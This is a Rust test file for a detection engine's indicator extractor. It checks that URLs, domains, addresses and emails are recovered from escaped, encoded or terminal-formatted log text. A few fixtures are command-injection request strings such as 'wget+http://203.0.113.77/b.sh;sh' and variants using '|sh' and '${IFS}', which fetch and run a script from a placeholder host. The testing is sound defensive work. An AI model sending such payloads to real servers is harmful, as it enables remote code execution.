//! Texts with randomly nested escapes, compared with what they decode to.

use super::*;
use crate::engine::indicator::{Kind, Observable, Where};
use proptest::prelude::*;
use std::collections::BTreeSet;
use std::ops::Range;

/// Records everything, and its position.
#[derive(Default)]
struct Everything {
    found: Vec<(Range<usize>, String)>,
}

impl Visitor for Everything {
    fn may_end_in(&self, _: &[u8]) -> bool {
        true
    }

    fn may_hold_v4(&self, _: u32) -> bool {
        true
    }

    fn wants(&self, _: Kind) -> bool {
        true
    }

    fn seen(&mut self, observable: Observable<'_>, at: Where, span: Range<usize>) {
        self.found.push((span, format!("{at:?} {}", text_of(observable))));
    }
}

fn text_of(observable: Observable<'_>) -> String {
    match observable {
        Observable::Url(text) => format!("Url({})", String::from_utf8_lossy(text)),
        Observable::Name(text) => format!("Name({})", String::from_utf8_lossy(text)),
        Observable::Email(text) => format!("Email({})", String::from_utf8_lossy(text)),
        Observable::Text(kind, text) => format!("{kind:?}({})", String::from_utf8_lossy(text)),
        other => format!("{other:?}"),
    }
}

/// Receives everything and keeps nothing.
struct Nothing(usize);

impl Visitor for Nothing {
    fn may_end_in(&self, _: &[u8]) -> bool {
        true
    }

    fn may_hold_v4(&self, _: u32) -> bool {
        true
    }

    fn wants(&self, _: Kind) -> bool {
        true
    }

    fn seen(&mut self, _: Observable<'_>, _: Where, _: Range<usize>) {
        self.0 += 1;
    }
}

fn all(mut extractor: Extractor, text: &[u8], cuts: &[usize]) -> Vec<(Range<usize>, String)> {
    let mut visitor = Everything::default();
    let mut from = 0;
    for &to in cuts.iter().chain([&text.len()]) {
        extractor.extract(text, from..to, &mut visitor);
        from = to;
    }
    visitor.found.sort_by_key(|(span, what)| (span.start, span.end, what.clone()));
    visitor.found
}

/// A character in one of the ways to write it; `slashes` before forms that have any.
fn escaped(char: char, way: u8, slashes: usize) -> String {
    let slash = "\\".repeat(slashes);
    let code = char as u32;
    match way {
        1 => format!("{slash}u{code:04x}"),
        2 => format!("{slash}u{code:04X}"),
        3 if code < 0x80 => format!("{slash}x{code:02x}"),
        4 => format!("&#{code};"),
        5 => format!("&#x{code:x};"),
        6 => format!("&#X00{code:X};"),
        7 if "/=|".contains(char) => format!("{slash}{char}"),
        7 if char == '.' => "&period;".into(),
        7 if char == ':' => "&colon;".into(),
        7 if char == '@' => "&commat;".into(),
        7 if char == '&' => format!("{slash}u0026amp;"),
        8 if char == '&' => "&amp;".into(),
        8 if char == '\n' => "\\n".into(),
        9 if char == '\n' => "#012".into(),
        10 if char == '\n' => "\u{1b}[1;31m".into(),
        11 if char == '\n' => format!("{slash}u001b[0m"),
        12 => format!("{slash}u{{{code:x}}}"),
        _ => char.to_string(),
    }
}

fn values() -> impl Strategy<Value = String> {
    let values = [
        "203.0.113.5",
        "203.0.113.9:8443",
        "2001:db8:bad::5",
        "[2001:db8::1]:443",
        "evil.example",
        "a.evil.example:80",
        "bad.guy@mail-evil.example",
        "http://evil.example/g.php?a=1&b=2",
        "https://u:p@evil.example:8443/a,b;c",
        "0123456789abcdef0123456789abcdef",
        "outside:2001:db8:bad::5",
        "CVE-2024-1234",
        "/gate.php?a=1",
        "evil.example/a?b=c",
        "\n",
        " ",
        "\"",
        "'",
        "=",
        "<",
        ">",
        ",",
        "(",
        ")",
        "|",
        "abc",
        "7",
        "münchen.example",
        "i❤.example",
        "http://evil.example/a.b,200;c",
        ";",
        "。",
        ".",
        "/",
        ":",
        "@",
        "//",
        "\n\n",
        "[",
        "]",
        "{",
        "}",
        "?",
        "+",
        "中",
        "“",
        "*",
        "_",
        "$",
    ];
    prop::sample::select(values.map(String::from).to_vec())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    /// Whichever characters are escaped, and in whatever way: the observables are those of the
    /// decoded text, for any chunk borders, on both paths.
    #[test]
    fn nested_escapes_decode_to_their_contents(
        pieces in prop::collection::vec(values(), 1..12),
        ways in prop::collection::vec((0..40u8, prop::sample::select(vec![1usize, 2, 3, 4])), 400),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..3),
    ) {
        let plain = pieces.concat();
        let mut text = String::new();
        let mut places = Vec::new();
        for (at, (char, (way, slashes))) in plain.chars().zip(ways.iter().cycle()).enumerate() {
            let _ = at;
            places.push(text.len());
            text.push_str(&escaped(char, *way, *slashes));
        }
        let want: BTreeSet<String> =
            all(Extractor::new(), plain.as_bytes(), &[]).into_iter().map(|(_, what)| what).collect();
        let found = all(Extractor::new(), text.as_bytes(), &[]);
        let got: BTreeSet<String> = found.iter().map(|(_, what)| what.clone()).collect();
        // For `//host/path` with escaped slashes only the host is reported.
        let is_relative = |what: &&String| {
            let url = what.strip_prefix("LogText Url(").and_then(|url| url.strip_suffix(')'));
            url.is_some_and(|url| !url.contains("://") && plain.contains(&format!("//{url}")))
        };
        let missing: Vec<_> = want.difference(&got).filter(|it| !is_relative(it)).collect();
        let surplus: Vec<_> = got.difference(&want).filter(|it| !is_relative(it)).collect();
        prop_assert!(
            missing.is_empty() && surplus.is_empty(),
            "{:?}\n{:?}\nmissing {:?}\nsurplus {:?}", plain, text, missing, surplus);
        for (span, what) in &found {
            prop_assert!(places.contains(&span.start), "{what} at {span:?} in {text:?}");
        }
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut.index(text.len() + 1)).collect();
        cuts.sort_unstable();
        prop_assert_eq!(&found, &all(Extractor::new(), text.as_bytes(), &cuts));
        prop_assert_eq!(&found, &all(Extractor::reference(), text.as_bytes(), &cuts));
    }
}

/// For each notation, the observable and its text.
const KINDS: &[(&str, &str, &str)] = &[
    (r#"{"u":"http\u003a//evil.example/g"}"#, "LogText Url(", r"http\u003a//evil.example/g"),
    (r#"x\\nevil.example"#, "Name(", "evil.example"),
    ("a\u{1b}[31mevil.example\u{1b}[0m", "Name(", "evil.example"),
    ("a \u{1b}]8;;http://evil.example/\u{7}x", "Url(", "http://evil.example/"),
    ("x ^[[31m203.0.113.5^[[0m", "Address(", "203.0.113.5"),
    ("x \\033[31m203.0.113.5", "Address(", "203.0.113.5"),
    ("x \\x1b[38:2::1:2:3m203.0.113.5", "Address(", "203.0.113.5"),
    ("x #0123456789abcdef0123456789abcdef y", "Digest(", "0123456789abcdef"),
    ("x \u{1b}[2001:db8:bad::5]:443", "Address(2001:db8:bad::5, Some(443))", "2001:db8:bad::5"),
    ("x \\e[31m203.0.113.5", "Address(", "203.0.113.5"),
    ("x &lt;evil.example&gt;", "Name(", "evil.example"),
    ("x evil\\056example", "Name(", "evil\\056example"),
    ("x evil&#46;example", "Name(", "evil&#46;example"),
    ("GET /?a=evil%2Eexample", "Name(", "evil%2Eexample"),
    ("GET /?a=203%2E0%2E113%2E5", "Address(", "203%2E0%2E113%2E5"),
    ("GET /?a=u%40evil%2Eexample", "Email(", "u%40evil%2Eexample"),
    ("A (4)evil(7)example(0)", "Name(", "(4)evil(7)example(0)"),
    ("A (5)\\001vil(7)example(0)", "Name(", ""),
    ("PTR (1)5(3)113(1)0(3)203(7)in-addr(4)arpa(0)", "Ptr Address(203.0.113.5", "(1)5"),
    ("{\"M\":[101,118,105,108,46,101,120,97,109,112,108,101]}", "Name(", "101,118"),
    ("{\"M\" : [101, 118, 105, 108, 46, 101, 120, 97]}", "", ""),
    ("\\\\evil.example@SSL\\x", "Name(", "evil.example"),
    ("\\\\evil.example@SSL@8443\\x", "Name(", "evil.example"),
    ("\\\\evil.example@8080\\DavWWWRoot", "Name(", "evil.example"),
    ("{\"a\":\"\\\\\\\\evil.example@8080\\\\DavWWWRoot\"}", "Name(", "evil.example"),
    ("\\\\203.0.113.5@80\\x", "Address(203.0.113.5, Some(80))", "203.0.113.5"),
    ("file://evil.example@SSL/x", "Name(", "evil.example"),
    ("dst ip6:2001:db8:bad::5", "Address(2001:db8:bad::5, None", "2001:db8:bad::5"),
    ("vlan100:2001:db8:bad::5", "Address(2001:db8:bad::5, None", "2001:db8:bad::5"),
    ("add:2001:db8:bad::5", "Address(2001:db8:bad::5, None", "2001:db8:bad::5"),
    ("src:::1", "Address(::1, None", "::1"),
    ("a 2001:db8:bad:1:2:3:4:5:443 b", "Some(443)", "2001:db8:bad:1:2:3:4:5"),
    // A comma is part of a URL, or ends it.
    ("x,http://evil.example/g.php,200", "Url(http://evil.example/g.php)", "http://evil"),
    ("x,http://evil.example/g.php,200", "Url(http://evil.example/g.php,200)", "http://evil"),
    ("x;http://evil.example/g,h?a=1&b=2;200", "Url(http://evil.example/g,h?a=1&b=2)", "http:"),
    ("x;http://evil.example;200", "Url(http://evil.example)", "http://evil"),
    ("x,evil.example/g.php,200", "Url(evil.example/g.php)", "evil.example"),
    ("x,/g.php,200", "UrlPath(/g.php)", "/g.php"),
    ("url=http://evil.example/g.php^x=y", "Url(http://evil.example/g.php)", "http://evil"),
    (r"x,http:\/\/evil.example\/g.php,200", "Url(http://evil.example/g.php)", "http:"),
    // Characters that may belong to a URL or follow it.
    ("x http://203.0.113.77/x/bin.sh+-O+a", "Url(http://203.0.113.77/x/bin.sh)", "http:"),
    ("GET /?c=wget+http://203.0.113.77/b.sh;sh", "Url(http://203.0.113.77/b.sh)", "http:"),
    ("x http://203.0.113.77/b.sh%20-O", "Url(http://203.0.113.77/b.sh)", "http:"),
    ("x http://203.0.113.77/b.sh%7Csh", "Url(http://203.0.113.77/b.sh)", "http:"),
    ("x http://203.0.113.77/b.sh%0D%0A", "Url(http://203.0.113.77/b.sh)", "http:"),
    ("x http://203.0.113.77/b.sh&&sh", "Url(http://203.0.113.77/b.sh)", "http:"),
    ("x http://203.0.113.77/b.sh${IFS}-O", "Url(http://203.0.113.77/b.sh)", "http:"),
    ("x http://203.0.113.77/b.sh$IFS-O", "Url(http://203.0.113.77/b.sh)", "http:"),
    ("x see-http://evil.example/g.php", "Url(http://evil.example/g.php)", "http:"),
    ("GET /r?u=http://evil.example/g.php&x=1", "Url(http://evil.example/g.php)", "http:"),
    (
        "GET /b?t=see%20http%3A%2F%2Fevil.example%2Fg.php%20now",
        "Url(http://evil.example/g.php)",
        "http%3A%2F%2Fevil.example%2Fg.php",
    ),
    ("GET /b?t=http%3A%2F%2Fevil.example%2Fg.php%22%3E", "Url(http://evil.example/g.php)", "http"),
    ("GET /b?t=http%3A%2F%2Fevil.example%2Fg.php+now", "Url(http://evil.example/g.php)", "http"),
    ("x “http://evil.example/g.php” y", "Url(http://evil.example/g.php)", "http:"),
    ("x http://evil.example/g.php\u{a0}y", "Url(http://evil.example/g.php)", "http:"),
    ("请看http://evil.example/g.php，谢谢", "Url(http://evil.example/g.php)", "http:"),
    ("x http://evil.example/g.php请看", "Url(http://evil.example/g.php)", "http:"),
    ("<p>http://evil.example/g.php。</p>", "Url(http://evil.example/g.php)", "http:"),
    (r#"{"m":"\u201chttp://evil.example/g.php\u201d"}"#, "Url(http://evil.example/g.php)", "http"),
    ("x **http://evil.example/g.php** y", "Url(http://evil.example/g.php)", "http:"),
    ("x ~~http://evil.example/g.php~~ y", "Url(http://evil.example/g.php)", "http:"),
    ("x _http://evil.example/g.php_. y", "Url(http://evil.example/g.php)", "http:"),
    ("<img src=//evil.example/g.php>", "Url(evil.example/g.php)", "evil.example"),
    // Next to letters and symbols of other scripts.
    ("x “bad.guy@evil.example”", "Email(bad.guy@evil.example)", "bad.guy"),
    ("x （bad.guy@evil.example）", "Email(bad.guy@evil.example)", "bad.guy"),
    ("x 🔥bad.guy@evil.example", "Email(bad.guy@evil.example)", "bad.guy"),
    ("请联系bad.guy@evil.example谢谢", "Email(bad.guy@evil.example)", "bad.guy"),
    ("请evil.example，", "Name(evil.example)", "evil"),
    ("见evil.example的", "Name(evil.example)", "evil"),
    ("访问evil.example。谢谢", "Name(evil.example)", "evil"),
    // Endpoints as printed by tcpdump.
    ("IP 192.0.2.10.50112 > 203.0.113.9.8443: Flags [S]", "(203.0.113.9, Some(8443))", "203"),
    ("IP 192.0.2.10.50112 > 203.0.113.9.8443: Flags [S]", "(192.0.2.10, Some(50112))", "192"),
    ("IP6 2001:db8::1.53 > 2001:db8:bad::9.8443: Flags", "(2001:db8:bad::9, Some(8443))", "2001"),
    ("IP6 2001:db8::1.53 > 2001:db8:bad::9.8443: Flags", "(2001:db8::1, Some(53))", "2001"),
    // Backslashes instead of slashes.
    (r"GET http://evil.example\g.php HTTP/1.1", r"Url(http://evil.example/g.php)", "http:"),
    (r"GET http://evil.example\news.php", r"Url(http://evil.example/news.php)", "http:"),
    (r"GET http://evil.example/a\b\g.php", r"Url(http://evil.example/a/b/g.php)", "http:"),
    (r"GET http://evil.example\a/g.php?x=\y", r"Url(http://evil.example/a/g.php?x=)", "http:"),
    (r"x http:\\evil.example\g.php", "Url(http://evil.example/g.php)", r"http:\\evil"),
    (r"x HTTPS:\\news.example:8443\g.php", "Url(HTTPS://news.example:8443/g.php)", "HTTPS"),
    (r"x http:\\evil.example/g.php", "Url(http://evil.example/g.php)", r"http:\\evil"),
    (r#"{"u":"http://evil.example\\g.php"}"#, "Url(http://evil.example/g.php)", "http:"),
    (r#"{"u":"http:\\\\evil.example\\g.php"}"#, "Url(http://evil.example/g.php)", "http:"),
    (r#"{"u":"http:\/\/evil.example\\g.php"}"#, "Url(http://evil.example/g.php)", "http:"),
    // Escaped bytes of UTF-8, and symbols.
    ("GET /r?u=http%3A%2F%2Fm%C3%BCnchen.example%2F", "Name(münchen.example)", "http%3A"),
    ("http://m%C3%BCnchen.example/", "Name(münchen.example)", "m%C3"),
    ("http://M%c3%bcnchen.example:80/", "Name(München.example)", "M%c3"),
    ("GET /?h=%E4%BE%8B%E3%80%82example", "Name(例。example)", "%E4"),
    ("GET /?q=%E2%80%9Cevil.example%E2%80%9D", "Name(evil.example)", "%E2"),
    ("GET /?q=a%F0%9F%94%A5.example", "Name(a🔥.example)", "a%F0"),
    ("lookup i❤.example", "Name(i❤.example)", "i❤"),
    ("lookup i❤️.example.", "Name(i❤️.example)", "i❤"),
    ("lookup www.🔥🔥.example", "Name(www.🔥🔥.example)", "www"),
    (r#"{"h":"i\u2764.example"}"#, "Name(i❤.example)", r"i\u2764"),
    (r#"{"h":"\ud83d\udd25.example"}"#, "Name(🔥.example)", r"\ud83d"),
    ("✔evil.example ok", "Name(evil.example)", "evil"),
    ("🔥evil.example🔥", "Name(evil.example)", "evil"),
    ("→evil.example", "Name(evil.example)", "evil"),
    // Quoted local parts.
    ("\"bad.guy\"@evil.example", "Email(\"bad.guy\"@evil.example)", "\"bad"),
    ("from=\"bad.guy\"@evil.example x", "Email(\"bad.guy\"@evil.example)", "\"bad"),
    ("<\"bad guy\"@evil.example>", "Email(\"bad guy\"@evil.example)", "\"bad"),
    (r#"{"f":"\"bad.guy\"@evil.example"}"#, "Email(\"bad.guy\"@evil.example)", "\"bad"),
    (r#"{"f":"{\"f\":\"\\\"bad.guy\\\"@evil.example\"}"}"#, "Email(\"bad.guy\"@", "\"bad"),
];

#[test]
fn every_kind_is_found_at_its_position() {
    for (text, what, stood) in KINDS {
        let found = all(Extractor::new(), text.as_bytes(), &[]);
        let is_there = found
            .iter()
            .any(|(span, seen)| seen.contains(what) && text[span.clone()].starts_with(*stood));
        assert!(is_there || what.is_empty() || stood.is_empty(), "{text}: {found:?}");
    }
}

/// Text that looks like a value but is not one.
#[test]
fn what_only_looks_like_a_value_is_not_reported() {
    for (text, what) in [
        (r"line\nevil.example", "nevil"),
        ("x (3)evil(7)example(0)", "Name("),
        ("x (4)evil(7)example", "Name("),
        ("v2001:db8::1", "Address("),
        ("x_2001:db8::1", "Address("),
        ("std::vector<a::b> dead::beef::1", "Address("),
        ("part #203.0.113.50", "113.5,"),
        ("http:\\/\\/bad.guy@evil.example/", "Email("),
        ("http:\\/\\/a:bad.guy@evil.example/", "Email("),
        ("u@SSL", "Name("),
        // Text in quotes or brackets is a unit.
        ("{\"u\":\"http://evil.example/g,h\"}", "Url(http://evil.example/g)"),
        ("<u>http://evil.example/g,h</u>", "Url(http://evil.example/g)"),
        (r"http://evil.example/?a=\g.php", "Url(http://evil.example/?a=/"),
        (r"C:\\evil.example\g.php", "Url("),
        (r"x:\\evil.example\g.php", "Url("),
        ("http://m%C3%BCnchen.example/", "Name(nchen.example)"),
        ("lookup x🔥.evil.example", "Name(evil.example)"),
        ("#bad.guy@evil.example", "Email("),
        ("x 192.0.2.10.50112 y", "Address("),
        ("http://evil.example/g.php?a=1&b=2", "?a=1)"),
        ("http://evil.example/münchen", "Url(http://evil.example/m)"),
        ("http://请evil.example/g", "Name(evil.example)"),
        ("x//evil.example/g.php", "Url(evil.example/g.php)"),
        ("\"a\", \"b@evil.example", "Email(\""),
    ] {
        let found = all(Extractor::new(), text.as_bytes(), &[]);
        assert!(!found.iter().any(|(_, seen)| seen.contains(what)), "{text}: {found:?}");
    }
}

/// A URL is parsed as far as possible, and from its beginning, wherever its escapes are.
#[test]
fn long_urls_are_parsed_from_their_beginning() {
    for (len, escape) in [(10_000, ""), (60_000, "\\u0026"), (70_000, ""), (70_000, "&amp;")] {
        let url = format!("http://evil.example/g.php?d={}{escape}b=1", "QUJD".repeat(len / 4));
        for text in [url.clone(), format!("GET {url} HTTP/1.1"), format!("{{\"u\":\"{url}\"}}")] {
            let found = all(Extractor::new(), text.as_bytes(), &[]);
            let urls: Vec<_> =
                found.iter().filter(|(_, w)| w.starts_with("LogText Url(")).collect();
            assert_eq!(urls.len(), 1, "{len} {escape}");
            let want = url.len().min(crate::engine::indicator::url::MAX_URL + 1);
            assert!(urls[0].0.len().abs_diff(want) < 64, "{:?} for {want}", urls[0].0);
            for cut in [1, 100, 5_000, text.len() / 2, text.len() - 3] {
                assert_eq!(found, all(Extractor::new(), text.as_bytes(), &[cut]), "{len} {cut}");
            }
        }
    }
}

/// The work grows linearly with the text.
#[test]
#[expect(clippy::disallowed_methods, reason = "a measurement needs a clock")]
fn rows_of_escapes() {
    for unit in [
        "\\",
        "\\n",
        "\\\\n",
        "%2E",
        "&#",
        "&#46;",
        "&amp;",
        "(3)",
        "(3)abc",
        "[1,2,3,",
        "\":[1,2,3,",
        "http://",
        "http:\\/\\/",
        "a.b/",
        "a\\/",
        "#011",
        "\u{1b}[",
        "\\u0061",
        "a@",
        ")",
        "http://a.example/)",
        "http%3A%2F%2Fa",
        ",/a",
        "//a.b",
        "http://a.b/+",
        "http://a.b/%20",
        "http%3A%2F%2Fa.b%20",
        "中a.b",
        "中a.b@",
        " > 1.1.1.1.1",
        "\\x61.b",
        "a:b::",
    ] {
        let text = unit.repeat(30_000 / unit.len());
        let began = std::time::Instant::now();
        Extractor::new().extract(text.as_bytes(), 0..text.len(), &mut Nothing(0));
        assert!(began.elapsed().as_secs() < 30, "{unit:?}: {:?}", began.elapsed());
    }
}
